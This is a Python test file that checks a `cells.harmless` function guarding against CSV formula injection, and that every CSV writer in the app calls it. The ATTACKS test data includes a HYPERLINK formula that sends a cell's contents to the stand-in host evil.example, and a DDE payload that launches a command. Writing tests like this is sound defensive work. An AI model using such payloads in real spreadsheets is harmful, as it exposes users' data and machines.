"""No table of ours holds a formula of somebody else's: every place that writes one asks `cells.harmless`."""

import ast
from pathlib import Path

import pytest

from app.values import cells

ATTACKS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
)


class TestCells:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_begin_with_nothing_that_is_worked_out(self, text: str) -> None:
        assert cells.harmless(text) == f"'{text}"

    @pytest.mark.parametrize("text", ["", "Sharma & Sons", "INV/25-26/0101", "3-4", "a=b", "₹1,180", "'quoted"])
    def test_keep_what_is_harmless(self, text: str) -> None:
        assert cells.harmless(text) == text

    def test_are_made_harmless_wherever_a_table_is_written(self, repository: Path) -> None:
        files = [path for path in (repository / "app").rglob("*.py") if "csv" in path.read_text()]
        writers = [path for path in files if {"writer", "DictWriter"} & _called(path, "csv")]
        assert len(writers) >= 5
        assert [path for path in writers if "harmless" not in _called(path, "cells")] == []


def _called(path: Path, module: str) -> set[str]:
    """The functions of `module` that the file calls."""
    return {
        node.func.attr
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == module
    }
